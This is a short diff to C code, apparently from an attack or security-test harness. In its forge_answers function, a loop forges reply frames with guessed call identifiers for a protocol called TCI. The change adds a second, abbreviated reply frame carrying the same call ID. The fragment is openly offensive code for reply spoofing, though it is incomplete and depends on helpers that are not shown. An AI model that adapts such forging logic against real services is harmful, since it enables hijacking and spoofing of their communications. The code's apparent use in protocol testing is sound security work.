@@ -211,6 +211,8 @@ static void forge_answers(attack *a)
 {
     uint8_t body[TCI_REPLY_BYTES + 8] = {0};
     const tci_frame header = {.payload_size = sizeof body, .kind = TCI_FRAME_REPLY};
+    const tci_frame brief = {
+        .payload_size = 16, .kind = TCI_FRAME_REPLY, .flags = TCI_BRIEF};
     while (attack_goes_on(a)) {
         for (uint64_t upper = 0; upper < 64; upper++) {
             tci_reply reply = {.call = (attack_below(a, 4096)) << 32 | (1 + upper % 4),
@@ -218,6 +220,9 @@ static void forge_answers(attack *a)
                                .rank = TC_RANK_NONE};
             tci_reply_encode(&reply, body);
             if (!attack_frame(a, &header, body, TCI_FRAME_HEADER_BYTES + sizeof body))
+                return;
+            memcpy(body + 8, &reply.call, sizeof reply.call);
+            if (!attack_frame(a, &brief, body, TCI_FRAME_HEADER_BYTES + 16))
                 return;
         }
         (void)tc_progress(a->ctx);
